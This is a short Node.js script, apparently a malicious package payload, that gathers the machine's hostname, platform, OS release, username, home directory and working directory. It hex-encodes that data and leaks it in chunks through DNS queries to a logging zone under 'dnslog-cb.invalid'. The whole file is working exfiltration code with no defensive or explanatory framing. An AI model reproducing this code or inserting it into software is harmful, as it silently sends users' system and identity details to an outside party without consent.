var dns = require('dns');
var os = require('os');

var u = os.userInfo();
var info = [os.hostname(), os.platform(), os.release(), u.username, u.homedir, process.cwd()].join(';');
var hex = Buffer.from(info, 'utf8').toString('hex');
var zone = '.d.dnslog-cb.invalid';
var id = Math.random().toString(36).slice(2, 8);

var chunks = hex.match(/.{1,60}/g);
chunks.forEach(function (c, i) {
  dns.resolve4(id + '-' + i + '-' + chunks.length + '.' + c + zone, function () {});
});
